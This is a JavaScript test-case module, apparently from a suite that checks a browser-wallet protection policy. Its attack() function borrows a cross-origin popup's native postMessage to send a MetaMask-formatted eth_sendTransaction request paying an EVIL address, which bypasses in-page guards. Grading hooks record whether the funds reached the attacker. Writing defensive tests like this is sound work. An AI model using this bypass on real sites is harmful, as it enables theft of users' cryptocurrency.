// G02: a cross-origin popup lends its native postMessage.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'G02',
  title: 'postMessage of a cross-origin popup',
  source: 'fresh-realm postMessage',
  level: 'detected',
  why: 'a popup hands out a native postMessage that no script can cover; policy frames: "none" prevents it',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  async attack(a) {
    // The wallet's stream drops what comes before its handshake, so one answered question goes first.
    await window.ethereum.request({ method: 'eth_accounts' });
    const params = [{ from: a.USER, to: a.EVIL, value: '0x5' }];
    const rpc = { jsonrpc: '2.0', id: 4242, method: 'eth_sendTransaction', params };
    const message = { target: 'metamask-contentscript', data: { name: 'metamask-provider', data: rpc } };
    const popup = window.open(`${a.other}/frame.html`);
    for (let turn = 0; turn < 40; turn += 1) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      try {
        void popup.document;
      } catch {
        break;
      }
    }
    popup.postMessage.call(window, message, location.origin);
  },

  async action(a, app) {
    return app.pay(a.GOOD, 5n);
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
  violation: { surface: 'postmessage', grade: 'tamper' },
  status: (status) => status.reasons.includes('wallet-bypass'),
};
